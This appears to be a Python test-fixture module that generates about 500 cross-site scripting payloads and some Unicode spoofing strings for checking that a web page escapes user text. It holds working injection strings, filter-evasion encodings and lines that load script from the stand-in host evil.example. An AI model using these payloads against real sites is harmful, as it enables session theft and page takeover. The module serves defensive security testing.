"""Five hundred texts that would like to be script, and some that would like to be read otherwise."""

from collections.abc import Iterator

RUN = "pwned()"
"""What a script of a peer would call; nothing on a page has that name."""

WAYS = (
    "<script>{0}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror={0}>",
    "<img src=x:x onerror={0}//",
    "<img/src/onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0} xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<body onload={0}>",
    "<body onpageshow={0}>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>press here</a>",
    "<a href='JaVaScRiPt:{0}'>press here</a>",
    "<a href=' &#1; javascript:{0}'>press here</a>",
    "<form action=javascript:{0}><button>send</button></form>",
    "<button form=x formaction=javascript:{0}>send</button>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video src=x onerror={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>",
    "<div style=animation:a onanimationstart={0}>",
    "<div onpointerover={0} style=position:fixed;inset:0>all of the page</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=//evil.example/>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<xss id=x tabindex=1 onfocus={0}></xss>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "' onmouseover='{0}' x='",
    '" onmouseover="{0}" autofocus onfocus="{0}" x="',
    "` onmouseover=`{0}`",
    "';{0};//",
    '";{0};//',
    "{{{{ {0} }}}}",
    "${{{0}}}",
)
"""Each with `{0}` where the script stands."""


def _entities(text: str) -> str:
    return "".join(f"&#{ord(each)};" if each in "<>'\"=:" else each for each in text)


def _escaped(text: str) -> str:
    return "".join(f"%{ord(each):02x}" if each in "<>'\" " else each for each in text)


def _variants(text: str) -> Iterator[str]:
    """The ways around filters that look for what is evil."""
    yield text
    yield f'">{text}'
    yield f"'>{text}"
    yield f"</title></textarea></style></script></template></select>{text}"
    yield f"--><!-->{text}<!--"
    yield f"]]>{text}<![CDATA["
    yield text.replace("<", "<\t", 1).replace(" on", "/on").upper().replace(RUN.upper(), RUN)
    yield _entities(text)
    yield _escaped(text)
    yield text.replace("script", "scr<script>ipt").replace("<", "<<")


PAYLOADS = tuple(variant for way in WAYS for variant in _variants(way.format(RUN)))

STRANGE = (
    "{{ 7 * 7 }}{% raw %}{% endraw %}{# #}",
    "%(name)s %s %d %% %(count)d",
    "Ann\u0430",  # the last letter is Cyrillic
    "\u202eannA\u202c",  # right to left, and back
    "Anna\u2066\u2067\u2068\u2069",
    "An\u200bna\u200c\u200d\u2060\ufeff",
    "Anna\u061c\u200e\u200f",
    "\U000e0041\U000e004e\U000e004e\U000e0041",  # tags, which nobody sees
    "Z\u0351\u036b\u0343\u036a\u0302a\u0489l\u035cg\u0338o\u0361",
    "\u05e2\u05d1\u05e8\u05d9\u05ea \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "<b>\u202eb>/<",
)
_UNSEEN_RANGES = ((0x061C, 0x061C), (0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x2069), (0xE0000, 0xE007F))
UNSEEN = frozenset(point for first, last in _UNSEEN_RANGES for point in range(first, last + 1)) | {0xFEFF}
"""Characters that turn or hide what stands around them; no page shows one that another has sent."""


def chunks(characters_max: int) -> list[str]:
    """All payloads, as many together as a page shows of one text, each chunk of the same length."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) + 1 > characters_max:
            found.append("")
        found[-1] += f"{payload} "
    return [chunk.ljust(characters_max, ".") for chunk in found]
